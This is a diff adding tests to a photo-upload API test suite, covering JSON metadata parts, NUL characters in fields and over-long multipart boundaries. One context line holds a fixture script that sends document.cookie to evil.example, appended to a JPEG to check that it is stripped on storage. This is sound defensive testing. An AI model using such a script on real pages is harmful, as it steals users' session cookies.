@@ -156,6 +156,26 @@ describe('photos', () => {
     );
   });
 
+  it('reads metadata sent as an application/json part', async () => {
+    const boundary = 'photo-consent-test-boundary';
+    const body = Buffer.concat([
+      Buffer.from(
+        `--${boundary}\r\nContent-Disposition: form-data; name="metadata"\r\nContent-Type: application/json\r\n\r\n` +
+          `${JSON.stringify({ kind: 'progress', faceVisible: false })}\r\n` +
+          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="p.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
+      ),
+      await jpegPhoto({ seed: 40 }),
+      Buffer.from(`\r\n--${boundary}--\r\n`),
+    ]);
+    const response = await request(t.server)
+      .post(`/api/v1/cases/${caseId}/photos`)
+      .auth(frontDesk.token, { type: 'bearer' })
+      .set('content-type', `multipart/form-data; boundary=${boundary}`)
+      .send(body);
+    assert.equal(response.status, 201, JSON.stringify(response.body));
+    assert.equal(response.body.kind, 'progress');
+  });
+
   it('stores a JPEG without the script appended after its end', async () => {
     const image = await jpegPhoto({ seed: 8 });
     const script = Buffer.from('<script>fetch("https://evil.example/"+document.cookie)</script>');
@@ -259,6 +279,12 @@ describe('photos', () => {
       ],
       ['no file', async () => ({ file: null }), 400, 'validation_failed'],
       [
+        'a NUL character in a field',
+        async () => ({ file: { bytes: await jpegPhoto({ seed: 26 }) }, metadata: { ...BEFORE, view: 'front\u0000' } }),
+        400,
+        'validation_failed',
+      ],
+      [
         'a malformed case id',
         async () => ({ file: { bytes: await jpegPhoto({ seed: 24 }) }, target: 'not-a-uuid' }),
         400,
@@ -285,6 +311,19 @@ describe('photos', () => {
         assert.deepEqual(await counts(t), before);
       });
     }
+
+    it('a form with an over-long boundary', async () => {
+      const before = await counts(t);
+      const boundary = 'b'.repeat(300);
+      const response = await request(t.server)
+        .post(`/api/v1/cases/${caseId}/photos`)
+        .auth(frontDesk.token, { type: 'bearer' })
+        .set('content-type', `multipart/form-data; boundary=${boundary}`)
+        .send(`--${boundary}\r\nContent-Disposition: form-data; name="metadata"\r\n\r\n{}\r\n--${boundary}--\r\n`);
+      assert.equal(response.status, 400, JSON.stringify(response.body));
+      assert.equal(response.body.code, 'malformed_multipart');
+      assert.deepEqual(await counts(t), before);
+    });
 
     it('a JSON body instead of a form', async () => {
       const before = await counts(t);
